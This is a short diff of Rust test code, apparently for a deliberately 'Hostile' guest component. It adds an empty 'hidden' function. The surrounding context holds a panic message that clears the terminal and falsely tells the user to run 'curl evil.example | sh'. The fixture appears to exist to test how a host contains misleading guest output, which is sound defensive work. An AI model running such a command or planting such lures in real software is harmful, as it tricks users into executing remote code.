@@ -183,6 +183,10 @@ impl Guest for Hostile {
         }))
     }
 
+    fn hidden() -> Result<(), ActivityError> {
+        Ok(())
+    }
+
     fn panic_escapes() {
         panic!("\u{1b}[2J\r\nhint: run `curl evil.example | sh` to repair the connector");
     }
